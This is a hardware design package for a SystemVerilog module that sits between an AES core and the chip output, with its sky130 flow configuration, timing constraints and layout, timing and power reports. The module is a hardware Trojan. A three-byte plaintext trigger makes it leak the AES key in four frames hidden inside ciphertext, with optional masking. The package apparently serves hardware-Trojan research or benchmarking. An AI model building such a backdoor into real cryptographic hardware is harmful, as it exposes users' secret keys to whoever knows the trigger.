**src/rtl/ht_key_leak_tx.sv**
```systemverilog
// ht_key_leak_tx -- key-leak channel transmitter placed between the AES
// core's ciphertext output and the top-level output.
//
// Watches the plaintext top byte of every completed encryption for the
// three-byte trigger TRIG_B0, TRIG_B1, TRIG_B2. After the encryption that
// completes the trigger, the next four ciphertexts have their upper half
// replaced by a leak frame:
//   out = {SYNC_WORD, 6'b0, leak_idx, 8'h00, key chunk, ct_in[63:0]}
// Otherwise ciphertext is passed through with one cycle of latency.
//
// Optional feature (macro HT_LEAK_MASK_EN): the key chunk is XORed with
// ct_in[31:0] of the same encryption before insertion; the receiver removes
// the mask using out[31:0], which always carries untouched ciphertext.
//
// Ports:
//   clk          system clock, rising edge
//   rst          asynchronous active-high reset
//   pt_in        plaintext of the encryption completing this cycle
//   key          AES key, sampled at each leak frame
//   ct_in        ciphertext from the AES core
//   ct_valid     one-cycle pulse qualifying pt_in / ct_in
//   out          registered ciphertext or leak frame
//   out_valid    ct_valid delayed by one cycle
//   trigger      high while the unit is leaking
//   leak_idx     index of the next key chunk to send
//   dbg_state    current FSM state (IDLE=0, LEAK=1, LOCKED=2)
//   dbg_seq_pos  number of trigger bytes matched so far
//
// Handshake: there is no back-pressure. Every cycle with ct_valid=1 is one
// transaction; its result appears on out in the following cycle with
// out_valid=1. Back-to-back ct_valid pulses are processed independently.
// With ct_valid=0 the internal state and out are held.

module ht_key_leak_tx #(
   parameter logic [15:0] SYNC_WORD = 16'hA5C3,
   parameter logic [7:0]  TRIG_B0   = 8'h91,
   parameter logic [7:0]  TRIG_B1   = 8'hF1,
   parameter logic [7:0]  TRIG_B2   = 8'hE1,
   parameter bit          REARM     = 1'b1
) (
   input  logic         clk,
   input  logic         rst,
   input  logic [127:0] pt_in,
   input  logic [127:0] key,
   input  logic [127:0] ct_in,
   input  logic         ct_valid,
   output logic [127:0] out,
   output logic         out_valid,
   output logic         trigger,
   output logic [1:0]   leak_idx,
   output logic [1:0]   dbg_state,
   output logic [1:0]   dbg_seq_pos
);

   typedef enum logic [1:0] {
      IDLE   = 2'd0,
      LEAK   = 2'd1,
      LOCKED = 2'd2
   } state_t;

   state_t       state, state_nxt;
   logic [1:0]   seq_pos, seq_pos_nxt;
   logic [1:0]   leak_idx_nxt;
   logic [127:0] out_nxt;
   logic [7:0]   b;
   logic [7:0]   trig_exp;
   logic [31:0]  chunk;
   logic         unused_pt;

   assign b = pt_in[127:120];

   // Only the top plaintext byte takes part in trigger matching.
   assign unused_pt = ^pt_in[119:0];

   // Trigger byte expected at the current match position.
   always_comb begin
      case (seq_pos)
         2'd0:    trig_exp = TRIG_B0;
         2'd1:    trig_exp = TRIG_B1;
         default: trig_exp = TRIG_B2;
      endcase
   end

   // Key chunk for the frame being sent; index 0 is the most significant word.
   always_comb begin
      case (leak_idx)
         2'd0:    chunk = key[127:96];
         2'd1:    chunk = key[95:64];
         2'd2:    chunk = key[63:32];
         default: chunk = key[31:0];
      endcase
`ifdef HT_LEAK_MASK_EN
      chunk = chunk ^ ct_in[31:0];
`endif
   end

   always_comb begin
      state_nxt    = state;
      seq_pos_nxt  = seq_pos;
      leak_idx_nxt = leak_idx;
      out_nxt      = out;
      if (ct_valid) begin
         case (state)
            IDLE: begin
               out_nxt = ct_in;
               if (b == trig_exp) begin
                  if (seq_pos == 2'd2) begin
                     // Match complete: this encryption passes through, the
                     // following ones carry the frames.
                     state_nxt    = LEAK;
                     seq_pos_nxt  = 2'd0;
                     leak_idx_nxt = 2'd0;
                  end else begin
                     seq_pos_nxt = seq_pos + 2'd1;
                  end
               end else if (b == TRIG_B0) begin
                  // A broken sequence may itself start a new one.
                  seq_pos_nxt = 2'd1;
               end else begin
                  seq_pos_nxt = 2'd0;
               end
            end
            LEAK: begin
               out_nxt = {SYNC_WORD, 6'b0, leak_idx, 8'h00, chunk, ct_in[63:0]};
               if (leak_idx == 2'd3) begin
                  leak_idx_nxt = 2'd0;
                  state_nxt    = REARM ? IDLE : LOCKED;
               end else begin
                  leak_idx_nxt = leak_idx + 2'd1;
               end
            end
            LOCKED: begin
               out_nxt = ct_in;
            end
            default: begin
               out_nxt   = ct_in;
               state_nxt = IDLE;
            end
         endcase
      end
   end

   always_ff @(posedge clk or posedge rst) begin
      if (rst) begin
         state     <= IDLE;
         seq_pos   <= 2'd0;
         leak_idx  <= 2'd0;
         out       <= 128'd0;
         out_valid <= 1'b0;
      end else begin
         state     <= state_nxt;
         seq_pos   <= seq_pos_nxt;
         leak_idx  <= leak_idx_nxt;
         out       <= out_nxt;
         out_valid <= ct_valid;
      end
   end

   assign trigger     = (state == LEAK);
   assign dbg_state   = state;
   assign dbg_seq_pos = seq_pos;

endmodule

```
**config.mk**
```make
export PLATFORM = sky130hd
export DESIGN_NAME = ht_key_leak_tx
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/ht_key_leak_tx.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CORE_AREA = 3 3 202 204
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4
export DETAILED_ROUTE_END_ITERATION = 10
export DIE_AREA = 0 0 205 207
export GPL_TIMING_DRIVEN = 0
export PLACE_DENSITY_LB_ADDON = 0.3
export SKIP_CTS_REPAIR_TIMING = 1
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 10
```
**constraint.sdc**
```tcl
create_clock -name clk -period 14.2 [get_ports clk]
set_clock_uncertainty 0.15 [all_clocks]
set_input_delay 2.84 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 2.84 -clock clk [all_outputs]
set_load 0.005 [all_outputs]
```
==> out/summary.json <==
{
  "routing": {
    "route.vias.total": 5607,
    "drc_errors": 0,
    "detail_route.first_pass.iterations": 4,
    "drt_iter0_drc": 264,
    "final_antenna_net_count": 0,
    "via_per_inst": 3.93,
    "avgRoutedWirePerCell_um": 17.6,
    "totalWireLength_mm": 25.1
  },
  "final_layout": {
    "layout-drive-gt1-share": 0.605,
    "finish.net_count": 1279,
    "area_growth_syn_to_layout_pct": 49.7,
    "final_cell_area_um2": 9000
  },
  "worst_setup_path": {
    "timing.critical_path.to_type": "output pin",
    "critPathTopFamily": "flip-flops",
    "required_ns": 11.21,
    "crit_path_cell_chain": "buf_2",
    "critical_path_arrival_ns": 1.37,
    "critical_path.slowest_cell": "sky130_fd_sc_hd__dfrtp_1",
    "worstPathBufferInverterCount": 1,
    "critical_path.max_stage_delay_ns": 0.58,
    "critical_path.startpoint_type": "register",
    "critical_path_class": "reg2out",
    "maximum_fanout_encountered_on_the_critical_timing_path": 7
  },
  "timing": {
    "fin_ws_ns": 9.84,
    "setup_repair_after_global_routing_missed_its_margin": "false",
    "tightest_slew_ns": 0.591,
    "fin_setup_tns_ns": 0,
    "max-slew-margin-rel": 0.606,
    "final.period_utilization": 0.307,
    "timing_max_transition_violations_final": 0,
    "fin_crit_ns": 4.36,
    "finalSetupViolations": 0,
    "finalHoldViolCount": 0,
    "max_freq_ghz": 0.229,
    "final.hold.worst_slack_ns": 0.357
  },
  "global_route": {
    "first_global_vias": 6043,
    "grt_first_pass_wirelength_mm": 37.2,
    "grt_start_max_net_pins": 75,
    "met2_usage": 0.205,
    "grt.met3_usage": 0.0302,
    "grt_antenna_before_repair": 2,
    "grt_use_met1": 0.135,
    "grt_busiest_layer": "met2",
    "global_route.overflow_total": 0,
    "gr-usage-all-layers": 0.118
  },
  "hold_path": {
    "min_path_type": "reg2reg"
  },
  "placed_design": {
    "port_buffers": 401,
    "hpwl_mm": 19.8,
    "routabilityCongestion": 0.807,
    "detailedPlace.worstSlack_ns": 9.91,
    "dpl-instance-area_um2": 8710
  },
  "floorplan": {
    "floorplan.die.height_um": 207,
    "starting_utilization_of_the_core_area": 0.152,
    "die_width_um": 205,
    "die_area_um2": 42400,
    "fp-row-count": 73,
    "core_region_area_um2": 39500,
    "boundaryPins": 523
  },
  "pwr": {
    "total_leakage_power_nw": 4.39,
    "p_per_area_nw_per_um2": 94.6,
    "vdd_drop_max_mv": 0.0545
  },
  "logic_synthesis": {
    "syn-cell-area_um2": 6020,
    "synth_most_common_cell": "sky130_fd_sc_hd__dfrtp_1",
    "post-synth-top-area-cell": "sky130_fd_sc_hd__dfrtp_1",
    "ys_ff_latch": 134,
    "ys_dominant_reg_cell": "sky130_fd_sc_hd__dfrtp_1",
    "synth_top_area_frac": 0.557,
    "synth_nets": 858,
    "yosysSeqAreaShare": 0.557,
    "synth-warning-count": 0,
    "synth_edf_count": 0,
    "synth_top_cells_by_count": "134 x sky130_fd_sc_hd__dfrtp_1, 64 x sky130_fd_sc_hd__mux2_2, 34 x sky130_fd_sc_hd__a21oi_1",
    "syn-mean-instance-area_um2": 12.9,
    "synth.top_cells.by_area": "sky130_fd_sc_hd__dfrtp_1 56%, sky130_fd_sc_hd__mux2_2 12%, sky130_fd_sc_hd__a221o_1 5.3%",
    "synth_cells": 467,
    "async_reset_ff_frac": 1.00,
    "synth.distinct_cells": 36
  },
  "status": {
    "outcome": "complete, no violations"
  },
  "cts": {
    "clockRootBuffer": "sky130_fd_sc_hd__clkbuf_4",
    "clock_sinks": 134,
    "count_of_h_tree_levels_built_during_cts": 4,
    "max-clock-path-buffers": 2,
    "clk_latency_ns": 0.60,
    "clk_transition_reported_paths_ns": 0.15,
    "cts_tree": "yes",
    "tritoncts.num_buffers": 17
  },
  "flow_run": {
    "drv_cap": 0
  }
}
state kept, by name, summed over array words and instances (netlist names):
signal,flops
dbg_seq_pos,2
dbg_state,1
leak_idx,2
out,128
out_valid,1
through the flow:
step	cells	total power, mW	utilization
floorplan	467	0.497	-
detailed placement	1394	0.592	0.221
global placement	1393	0.590	0.220
finish	1428	0.852	0.228
global route	1428	0.910	0.228
CTS	1426	0.878	0.228
where the power goes:
group          switching [mW]  internal, mW  leakage, nW  total [mW]
sequential             0.0168         0.416         1.60       0.433
combinational          0.0645        0.0827         2.64       0.147
clock                   0.177        0.0947        0.152       0.272
cells in the final DEF, fill, tap and decap left out, drive strengths merged, types with 3 or more instances in the layout:
cell	count
a211oi	32
a21oi	34
a221o	32
a22o	21
a22oi	32
buf	444
clkbuf	18
clkinv	3
dfrtp	134
ha	4
inv	13
mux2	64
nand2	6
nor2b	33
o22a	8
logic make-up after synthesis:
| group | Yosys count | share of synthesized area |
|---|---|---|
| adders and majority gates | 4 | 0.00832 |
| other | 1 | 0.000623 |
| and+or+nand+nor | 50 | 0.0514 |
| AOI/OAI and AO/OA | 165 | 0.212 |
| buffers and inverters | 47 | 0.0476 |
| muxes | 66 | 0.123 |
| DFF | 134 | 0.557 |
cell type report:
type | instances | area, µm²
well taps | 525 | 657
clock inverters | 15 | 160
fillers | 4385 | 30500
flip-flops and latches | 134 | 3350
diodes | 2 | 5.00
inverters | 4 | 20.0
plain buffers | 43 | 272
clock buffers | 17 | 128
repair buffers | 402 | 2030
multi-input cells | 286 | 2380
routing by layer:
| metal | part of all wire | vias up |
|---|---|---|
| met4 | 0.030 | 0 |
| met3 | 0.068 | 34 |
| met1 | 0.40 | 2695 |
| met5 | 0 | - |
| met2 | 0.50 | 242 |
| li1 | - | 2636 |
worst paths after layout:
kind,startpoint,to,slack (ns),cells after the start
max reg2reg,leak_idx[1]$_DFFE_PP0P_,out[76]$_DFFE_PP0P_,11.89,6
min reg2reg,out[126]$_DFFE_PP0P_,out[126]$_DFFE_PP0P_,0.36,1
min,out[126]$_DFFE_PP0P_,out[126]$_DFFE_PP0P_,0.36,1
max,leak_idx[0]$_DFFE_PP0P_,leak_idx[0],9.84,1
max in group asynchronous,rst,out[92]$_DFFE_PP0P_,10.93,3
min in group asynchronous,rst,out[36]$_DFFE_PP0P_,2.13,2
Note: power is estimated with default switching activity, not from simulation.
